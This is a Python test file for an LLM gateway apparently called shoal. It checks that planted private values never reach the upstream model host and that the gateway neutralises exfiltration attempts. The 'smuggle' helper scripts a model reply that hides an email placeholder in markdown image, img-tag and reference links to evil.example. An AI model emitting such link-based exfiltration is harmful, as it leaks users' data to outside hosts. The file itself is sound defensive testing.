"""`shoal up` as it comes, a recording host behind it and the real openai package before it: the host sees nothing."""

from __future__ import annotations

import asyncio
import json
import os
import random
import re
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import openai
import orjson
import pytest

from shoal.testing import STREAM_END, STREAM_HEAD, Received, ScriptedHost, Wire, chunk, event, response
from tests.clients.planted import Planted, plant, request
from tests.waiting import SOON_S

PLACEHOLDER = re.compile(r"<[A-Z][A-Z0-9_]*_[a-z2-7]{8,}(?:\.[a-z0-9]+)?>")
EVIL = "https://evil.example/x.png"


def placeholders(received: Received) -> list[str]:
    return list(dict.fromkeys(PLACEHOLDER.findall(received.body.decode())))


def cut(text: str, seed: int) -> list[str]:
    """The text in pieces of 1 to 9 characters."""
    draw = random.Random(seed)
    pieces = []
    while text:
        size = draw.randint(1, 9)
        pieces.append(text[:size])
        text = text[size:]
    return pieces


def delta(said: dict[str, Any], finish: str | None = None) -> bytes:
    choice = {"index": 0, "delta": said, "finish_reason": finish}
    return event({"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice]})


def texts(received: Received) -> list[str]:
    """All that the messages say, and the arguments of their calls. What the gateway itself put behind the system
    prompt stays unsaid: a reply that shows the canary is stopped."""
    said: list[str] = []
    for message in received.json["messages"]:
        content = message.get("content") or ""
        text = content if isinstance(content, str) else content[0]["text"]
        said.append(text.partition("\n\n")[0] if message["role"] == "system" else text)
        said += [call["function"]["arguments"] for call in message.get("tool_calls", ())]
    return said


async def repeat(received: Received, wire: Wire) -> None:
    """Says all that it was told, then calls a tool with it, plain and in JSON inside JSON."""
    seen = texts(received)
    arguments = json.dumps({"all": seen, "inner": json.dumps({"again": seen})})
    function = {"index": 0, "id": "call_9", "type": "function", "function": {"name": "send", "arguments": ""}}
    events = [delta({"content": piece}) for piece in cut("\n".join(seen), 1)]
    events.append(delta({"tool_calls": [function]}))
    events += [delta({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}) for piece in cut(arguments, 2)]
    raw = b"".join([*events, delta({}, "tool_calls"), event("[DONE]")])
    wire.send(STREAM_HEAD)
    draw = random.Random(3)
    while raw:  # cut anywhere, in the middle of events and of characters
        size = draw.randint(1, 700)
        wire.send(chunk(raw[:size]))
        raw = raw[size:]
    wire.send(STREAM_END)


async def smuggle(received: Received, wire: Wire) -> None:
    """Tries to have a value carried off in what a client would load."""
    mail = next(found for found in placeholders(received) if found.startswith("<EMAIL"))
    said = f"Done, {mail}. ![x]({EVIL}?q={mail}) <img src='{EVIL}?r={mail}'> [a]: {EVIL}?s={mail}"
    message = {"role": "assistant", "content": said}
    choice = {"index": 0, "message": message, "finish_reason": "stop"}
    wire.send(response(orjson.dumps({"id": "c", "object": "chat.completion", "choices": [choice]})))


@contextmanager
def recording(*steps: Callable[..., Any]) -> Iterator[ScriptedHost]:
    """A host on a loop of its own."""
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    host = ScriptedHost(*steps)
    asyncio.run_coroutine_threadsafe(host.__aenter__(), loop).result(SOON_S)
    try:
        yield host
    finally:
        asyncio.run_coroutine_threadsafe(host.__aexit__(None, None, None), loop).result(SOON_S)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(SOON_S)
        loop.close()


@contextmanager
def gateway(folder: Path, host: ScriptedHost) -> Iterator[openai.OpenAI]:
    """`shoal up`, with nothing set but the host."""
    settings = folder / "shoal.toml"
    settings.write_text(f'[hosts.h]\ndialect = "openai"\nbase_url = "{host.url}"\n[models.m]\nhost = "h"\n')
    home = {"XDG_CONFIG_HOME": str(folder / "config"), "XDG_DATA_HOME": str(folder / "data")}
    order = [
        sys.executable,
        "-c",
        "from shoal.cli import main; main()",
        "up",
        "--config",
        str(settings),
        "--port",
        "0",
        "--json",
    ]
    with subprocess.Popen(order, stdout=subprocess.PIPE, env={**os.environ, **home}, cwd=folder, text=True) as up:
        try:
            assert up.stdout is not None
            started = json.loads(up.stdout.readline())
            with openai.OpenAI(base_url=f"{started['address']}/v1", api_key=started["member_key"]) as client:
                yield client
        finally:
            up.terminate()
            up.wait(SOON_S)


@pytest.fixture(scope="module")
def planted() -> Planted:
    found = plant()
    assert len(set(found.values)) == 200
    return found


@pytest.fixture(scope="module")
def replies(planted: Planted, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[ScriptedHost, Any, str]]:
    """The host, the streamed reply put together by the package's own helper, and a whole reply that smuggles."""
    with recording(repeat, smuggle) as host, gateway(tmp_path_factory.mktemp("up"), host) as client:
        with client.chat.completions.stream(**request(planted, "m")) as stream:
            for _ in stream:
                pass
            streamed = stream.get_final_completion()
        whole = client.chat.completions.create(**request(planted, "m"))
        yield host, streamed, whole.choices[0].message.content or ""


def test_the_host_sees_none_of_the_planted_values(planted: Planted, replies: tuple[ScriptedHost, Any, str]) -> None:
    for received in replies[0].requests:
        body = received.body.decode()
        heads = json.dumps(received.headers)
        unescaped = json.dumps(received.json, ensure_ascii=False).replace("\\", "")
        assert [value for value in planted.values if value in body or value in unescaped or value in heads] == []


def test_the_client_sees_them_all(planted: Planted, replies: tuple[ScriptedHost, Any, str]) -> None:
    message = replies[1].choices[0].message
    assert [value for value in planted.values if value not in (message.content or "")] == []


def test_arguments_of_tools_hold_them_as_proper_json(planted: Planted, replies: tuple[ScriptedHost, Any, str]) -> None:
    call = replies[1].choices[0].message.tool_calls[0]
    arguments = json.loads(call.function.arguments)
    assert call.function.name == "send"
    assert arguments["all"] == json.loads(arguments["inner"])["again"]
    assert [value for value in planted.values if value not in "\n".join(arguments["all"])] == []


def test_an_image_link_carries_nothing_off(planted: Planted, replies: tuple[ScriptedHost, Any, str]) -> None:
    said = replies[2]
    before, _, links = said.partition("![x]")
    assert any(value in before for value in planted.values), "outside a link the value comes back"
    assert [value for value in planted.values if value in links] == []
    assert links.count("EMAIL_ADDRESS_") == 3
